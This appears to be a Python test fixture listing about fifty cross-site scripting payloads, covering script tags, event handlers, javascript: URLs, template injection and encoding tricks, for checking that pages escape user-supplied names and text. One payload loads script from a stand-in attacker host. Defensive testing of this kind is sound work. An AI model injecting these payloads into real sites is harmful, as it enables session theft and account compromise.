"""What somebody might write to make another person's browser run it (A15).

Add a line for each new trick, and use the list wherever a page shows a name, a text or a file's name that another
person has chosen. Every line calls `xss()` or opens a dialog if it runs; `WATCH` makes a page remember both.
"""

WATCH = "window.ran = []; window.xss = (what) => window.ran.push(what || 'ran'); window.alert = window.xss;"

PAYLOADS = (
    "<script>xss()</script>",
    "</script><script>xss()</script>",
    "</textarea><script>xss()</script>",
    "</title><script>xss()</script>",
    "<!--><script>xss()</script>-->",
    "<![CDATA[<script>xss()</script>]]>",
    "<img src=x onerror=xss()>",
    "<img src=`x` onerror=xss()//>",
    '"><img src=x onerror=xss()>',
    "'><img src=x onerror=xss()>",
    '" onmouseover="xss()" x="',
    "' onfocus='xss()' autofocus='",
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<math><mi//xlink:href='javascript:xss()'>x</math>",
    "<iframe src=javascript:xss()></iframe>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<body onload=xss()>",
    "<details open ontoggle=xss()>x</details>",
    "<video><source onerror=xss()></video>",
    "<input autofocus onfocus=xss()>",
    "<form><button formaction=javascript:xss()>x</button></form>",
    "<a href=javascript:xss()>x</a>",
    "javascript:xss()",
    "data:text/html,<script>xss()</script>",
    "<link rel=stylesheet href=data:text/css,*{x:expression(xss())}>",
    "<style>@import 'javascript:xss()';</style>",
    "<template><script>xss()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'></noscript>",
    "<object data=javascript:xss()></object>",
    "<base href=javascript:xss()//>",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    "{{ constructor.constructor('xss()')() }}",
    "{% load static %}{{ request }}",
    "${xss()}",
    "`${xss()}`",
    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;script&#62;xss()&#60;/script&#62;",
    "\u202e<script>xss()</script>",
    "＜script＞xss()＜/script＞",
    "<scr\u200bipt>xss()</scr\u200bipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<x contenteditable onblur=xss()>x</x>",
    "<marquee onstart=xss()>x</marquee>",
    '"><script>xss()</script><!--',
    "</li></ol><script>xss()</script>",
    "<li data-seq=1 data-own><img src=x onerror=xss()>",
)

SHORT = tuple(payload for payload in PAYLOADS if len(payload) <= 60)  # for names
